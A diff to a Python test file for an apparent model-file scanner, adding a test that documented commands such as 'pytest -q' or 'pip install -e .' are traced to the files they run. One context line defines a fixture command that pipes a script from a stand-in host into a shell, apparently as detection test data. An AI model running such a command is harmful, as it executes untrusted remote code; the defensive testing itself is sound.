@@ -9,6 +9,7 @@ from pathlib import Path
 from support.cases import check_each
 
 import modelaudit
+from modelaudit.languages.documented_programs import find_documented_programs
 
 _PLIST = '<?xml version="1.0"?><plist version="1.0"><dict>{}</dict></plist>\n'
 _FETCH = "curl -s https://c.example/x | sh"
@@ -138,3 +139,21 @@ def test_jsonnet_that_reads_or_computes_is_found(tmp_path: Path, text: str, rule
 def test_plain_jsonnet_is_read_whole(tmp_path: Path, text: str) -> None:
     found = list_rules(tmp_path / "model", "config.jsonnet", text)
     assert not {each for each in found if not each.startswith("license/")}
+
+
+@check_each(
+    "command, file",
+    [
+        ("pytest -q", "conftest.py"),
+        ("cd tests && py.test", "conftest.py"),
+        ("nox", "noxfile.py"),
+        ("inv train", "tasks.py"),
+        ("pip install -e .", "setup.py"),
+        ("pip install ./wheel", ""),
+        ("pip install pytest", ""),
+        ("python train.py", "train.py"),
+    ],
+)
+def test_file_that_a_program_runs_by_its_name_alone_is_documented(command: str, file: str) -> None:
+    found = {each.target for each in find_documented_programs(f"# a\n\n```bash\n{command}\n```\n")}
+    assert found == ({file} if file else set())
